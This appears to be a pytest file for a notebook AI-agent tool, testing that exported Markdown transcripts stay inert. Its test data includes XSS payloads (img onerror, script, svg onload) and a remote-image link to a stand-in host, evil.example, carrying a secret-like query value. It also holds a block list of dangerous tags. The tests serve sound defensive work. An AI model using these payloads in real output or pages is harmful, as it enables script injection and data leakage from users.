"""The static Markdown copy of a conversation never carries live HTML nor a remote image.

Checked the way viewers read it: markdown-it-py with raw HTML on (CommonMark + GFM tables and
strikethrough, as GitHub), nbconvert's own mistune renderer for HTML export, and nbconvert's
Markdown export of a notebook holding the output.
"""

from __future__ import annotations

from html.parser import HTMLParser

import nbformat
import pytest
from markdown_it import MarkdownIt
from nbconvert import MarkdownExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from nb_agent.render.markdown import agent_markdown, code_span, literal
from nb_agent.render.transcript import to_markdown

EVIL = "evil.example"
XSS = f'<img src="http://{EVIL}/x.png" onerror="alert(1)">'

# Agent text that slips raw HTML or a remote image past a regex-based escaper.
HOSTILE_TEXT = [
    pytest.param(f"\\`{XSS}\\`", id="backslash-escaped backticks"),
    pytest.param(f"inline ```{XSS}", id="unmatched fence mid-line"),
    pytest.param(f"```\nunclosed fence {XSS}\n\n<script>alert(1)</script>", id="unclosed fence"),
    pytest.param(f"````\n```\n````\n{XSS}", id="longer fence closed"),
    pytest.param(f"    ```\n{XSS}", id="indented fence is not a fence"),
    pytest.param(f"~~~\ncode\n~~~\n{XSS}", id="tilde fence"),
    pytest.param(f"`` a ` {XSS}", id="unmatched double backtick"),
    pytest.param(f"<div>\n{XSS}\n</div>", id="html block"),
    pytest.param(f"<!--\n{XSS}\n-->", id="html comment"),
    pytest.param(f"- item\n  {XSS}\n> quote {XSS}", id="in list and quote"),
    pytest.param(f"| a | b |\n|---|---|\n| {XSS} | 2 |", id="in a table"),
    pytest.param(f"&lt;img src=x&gt; <{EVIL}> <svg onload=alert(1)>", id="entities and odd tags"),
    pytest.param(f"![chart](http://{EVIL}/c.png?k=sk-SECRET)", id="remote image"),
    pytest.param(f"![ref][r]\n\n[r]: http://{EVIL}/r.png", id="reference image"),
    pytest.param(f"[![badge](https://{EVIL}/b.svg)](https://{EVIL}/)", id="image in link"),
]


def check_md(markdown: str) -> list[str]:
    """Raw HTML and remote images a CommonMark/GFM renderer would emit for ``markdown``."""
    found: list[str] = []
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])

    def walk(tokens: list) -> None:  # type: ignore[type-arg]
        for tok in tokens:
            if tok.type in ("html_block", "html_inline"):
                found.append(f"{tok.type}: {tok.content!r}")
            if tok.type == "image" and not str(tok.attrs.get("src", "")).startswith("data:image/png"):
                found.append(f"image: {tok.attrs.get('src')}")
            walk(tok.children or [])

    walk(md.parse(markdown))
    return found


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"img", "script", "svg", "iframe", "div", "b", "sub", "style", "link"} and not (
            tag == "div" and ("class", "highlight") in attrs
        ):
            self.bad.append(tag)
        self.bad += [f"{tag}[{name}]" for name, _ in attrs if name.startswith("on") or name in ("src", "style")]


def check_mistune(markdown: str) -> list[str]:
    """What nbconvert's HTML export would make of it: tags agent text must not produce."""
    parser = _Tags()
    parser.feed(markdown2html_mistune(markdown))
    return parser.bad


def transcript(text: str) -> list[dict[str, object]]:
    return [
        {"type": "user_message", "text": "hi"},
        {"type": "text_delta", "message_id": "m", "delta": text},
        {"type": "run_finished", "reason": "stop"},
    ]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_agent_text_never_renders_html_or_remote_images(text: str) -> None:
    md = to_markdown(transcript(text))
    assert check_md(md) == []
    assert check_mistune(md) == []


def test_tool_names_arguments_results_and_errors_are_plain_text() -> None:
    md = to_markdown(
        [
            {"type": "tool_call", "tool_call_id": "c", "name": f"x`{XSS}`", "arguments": {"q": f"``` {XSS} `"}},
            {"type": "tool_call", "tool_call_id": "d", "name": "t", "arguments": {"q": f"`{XSS}"}},
            {"type": "approval_requested", "tool_call_id": "c", "name": f"`{XSS}"},
            {"type": "tool_result", "tool_call_id": "c", "content": f"`{XSS}` **x**"},
            {"type": "error", "message": f"\\`{XSS}"},
            {"type": "title_changed", "title": XSS},
            {"type": "user_message", "text": f"`{XSS}"},
            {
                "type": "run_finished",
                "reason": XSS,
                "usage": {"input_tokens": 1, "output_tokens": 2, "total_tokens": 3},
            },
        ]
    )
    assert check_md(md) == []
    assert check_mistune(md) == []
    html = markdown2html_mistune(md)
    assert "``` " in html  # the arguments are still shown, as code
    assert "alert(1)" in html


def test_nbconvert_markdown_export_keeps_it_inert() -> None:
    outputs = [
        nbformat.v4.new_output(
            "display_data", data={"text/markdown": to_markdown(transcript(str(p.values[0]))), "text/plain": "x"}
        )
        for p in HOSTILE_TEXT
    ]
    cell = nbformat.v4.new_code_cell("%agent hi", outputs=outputs)
    exported, _ = MarkdownExporter().from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
    assert EVIL in exported  # the outputs are there
    assert check_md(exported) == []


def test_markdown_survives_for_the_reader() -> None:
    text = "# Result\n\nThe **mean** is `x < 3`.\n\n```python\nprint('<b>')\n```\n\n- one\n- two [docs](https://docs.example/a)"
    md = agent_markdown(text)
    html = markdown2html_mistune(md)
    assert "<strong>mean</strong>" in html
    assert "<code>x &lt; 3</code>" in html
    assert "&lt;b&gt;" in html
    assert '<a href="https://docs.example/a">docs</a>' in html
    # a remote image is a link to the same place; an inline data image stays an image
    linked = agent_markdown(f"![chart](http://{EVIL}/c.png) ![dot](data:image/png;base64,iVBORw0KGgo=)")
    rendered = markdown2html_mistune(linked)
    assert f'<a href="http://{EVIL}/c.png">image: chart</a>' in rendered
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"' in rendered


def test_literal_and_code_span_read_back_exactly() -> None:
    nasty = (
        "a\\`b `` <i>x</i> & &amp; *y* [z](w) # 1. | ~~s~~ "
        + "[r]: <http://c.example/x?y=1;z> 'q' \"q\" 50% a@b.example ^"
    )
    md = MarkdownIt("commonmark")
    assert md.render(literal(nasty)) == f"<p>{md.utils.escapeHtml(nasty)}</p>\n"  # type: ignore[attr-defined]
    assert md.render(code_span(nasty)) == f"<p><code>{md.utils.escapeHtml(nasty)}</code></p>\n"  # type: ignore[attr-defined]


def test_pieces_that_are_inert_alone_stay_inert_together() -> None:
    """Messages next to each other: a list item could adopt the next message's indented HTML,
    a definition in one could make an image of another's brackets."""
    md = to_markdown(
        [
            {"type": "text_delta", "message_id": "a", "delta": "- item"},
            {"type": "run_started", "run_id": "r"},
            {"type": "text_delta", "message_id": "b", "delta": f"    {XSS}"},
            {"type": "run_started", "run_id": "s"},
            {"type": "text_delta", "message_id": "c", "delta": f"![x][r] [y][r]\n\n[r]: http://{EVIL}/r.png"},
            {"type": "run_started", "run_id": "t"},
            {"type": "text_delta", "message_id": "d", "delta": "![x][r]"},
        ]
    )
    assert check_md(md) == []
    assert check_mistune(md) == []
